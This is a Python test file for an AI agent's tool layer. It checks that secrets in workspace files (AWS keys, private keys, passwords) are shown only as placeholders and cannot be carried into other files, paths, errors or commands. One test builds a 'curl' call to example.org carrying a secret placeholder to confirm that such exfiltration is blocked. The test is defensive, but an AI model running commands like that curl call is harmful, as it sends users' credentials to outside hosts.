"""A tool works beside a secret, and nobody learns it but the file it stands in."""

import base64
import json
import re
from dataclasses import replace

import pytest
from pydantic import BaseModel

from steward.core.errors import InvalidInputError
from steward.gateway.request import ToolCall
from steward.permissions.decide import Act
from steward.tools.placeholders import Placeholders
from steward.workspace.proposal import EditProposal
from tests.core.test_redact import SECRETS
from tests.rooms import Rooms
from tests.tools.agent import UNLIMITED, surroundings, use

KEY = SECRETS["aws key"]
FILE = f'KEY = "{KEY}"\nlimit = 1\n'
PLACEHOLDER = re.compile(r"<secret [a-z ]+ [a-z2-7]{8}>")


def write(rooms: Rooms, **files: str) -> None:
    for name, text in files.items():
        (rooms.workspace.root / f"{name}.py").write_text(text)


async def shown(rooms: Rooms, path: str = "conf.py") -> str:
    result = await use(rooms, "read_file", path=path)
    assert result.ok
    return result.text


async def proposed(rooms: Rooms, proposal_id: str | None) -> dict[str, str | None]:
    assert proposal_id is not None
    kept = await rooms.proposals.find(proposal_id)
    assert isinstance(kept.proposal, EditProposal)
    return {change.path: change.after for change in kept.proposal.changes}


async def test_reading_a_file_shows_a_placeholder_for_its_secret(rooms: Rooms) -> None:
    write(rooms, conf=FILE)
    text = await shown(rooms)
    assert KEY not in text
    assert PLACEHOLDER.search(text)
    assert "limit = 1" in text


async def test_an_edit_beside_a_secret_leaves_it_where_it_is(rooms: Rooms) -> None:
    write(rooms, conf=FILE)
    old = (await shown(rooms)).split("\n", 1)[1]
    new = old.replace("limit = 1", "limit = 2")
    result = await use(rooms, "edit_file", path="conf.py", old_text=old, new_text=new)
    assert result.ok
    assert KEY not in result.text
    after = await proposed(rooms, result.proposal_id)
    assert after == {"conf.py": FILE.replace("limit = 1", "limit = 2")}


async def test_a_secret_is_not_carried_into_another_file(rooms: Rooms) -> None:
    write(rooms, conf=FILE, other="x = 1\n")
    found = PLACEHOLDER.search(await shown(rooms))
    assert found is not None
    result = await use(rooms, "edit_file", path="other.py", old_text="x = 1", new_text=found[0])
    assert (result.ok, result.proposal_id) == (False, None)
    assert "not in the file you name" in result.text


async def test_no_path_is_made_of_a_secret(rooms: Rooms) -> None:
    write(rooms, conf=FILE)
    found = PLACEHOLDER.search(await shown(rooms))
    assert found is not None
    changes = [
        {"do": "edit", "path": "conf.py", "old_text": "limit = 1", "new_text": "limit = 2"},
        {"do": "create", "path": f"{found[0]}.txt", "text": ""},
    ]
    result = await use(rooms, "change_files", changes=changes)
    assert (result.ok, result.proposal_id) == (False, None)
    assert KEY not in result.text


async def test_a_part_of_a_long_secret_is_hidden_like_the_whole(rooms: Rooms) -> None:
    key = SECRETS["private key"].replace("abc", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC")
    write(rooms, conf=f'KEY = """{key}"""\n')
    result = await use(rooms, "read_file", path="conf.py", first_line=3, last_line=3)
    assert "MIIEvQIBADANBgkq" not in result.text
    assert PLACEHOLDER.search(result.text)


async def test_an_error_does_not_say_what_was_put_back(rooms: Rooms) -> None:
    write(rooms, conf=f"password: hunter2hunter2\n{FILE}")
    text = (await shown(rooms)).split("\n", 1)[1]
    wrong = text.replace("limit = 1", "limit = 7")
    result = await use(rooms, "edit_file", path="conf.py", old_text=wrong, new_text="")
    assert not result.ok
    assert "hunter2" not in result.text
    assert KEY not in result.text


async def test_a_key_of_ours_is_hidden_whatever_it_looks_like(rooms: Rooms) -> None:
    ours = "correct-horse-battery-staple"

    async def known() -> tuple[str, ...]:
        return (ours,)

    invoker = replace(rooms.invoker, placeholders=Placeholders(lambda: b"k" * 32, known))
    hidden = base64.b64encode(ours.encode()).decode()
    write(rooms, conf=f"# {ours} {hidden}\n")
    wanted = ToolCall("1", "read_file", json.dumps({"path": "conf.py"}))
    result = await invoker.invoke(wanted, UNLIMITED, surroundings(rooms))
    assert result.ok
    assert ours not in result.text
    assert hidden[:20] not in result.text


class Words(BaseModel):
    argv: list[str]


async def test_no_command_is_given_a_secret(rooms: Rooms) -> None:
    write(rooms, conf=FILE)
    found = PLACEHOLDER.search(await shown(rooms))
    assert found is not None
    placeholders, call = rooms.invoker.placeholders, surroundings(rooms)
    words = Words(argv=["curl", f"https://example.org/{found[0]}"])
    with pytest.raises(InvalidInputError, match="no command"):
        await placeholders.restored(words, Act("run", "command.run", ("conf.py",)), call)
    # Where nothing is run or written, it stays what it is.
    asked = Act("ask_model", "model.ask", ("conf.py",))
    assert await placeholders.restored(words, asked, call) == words
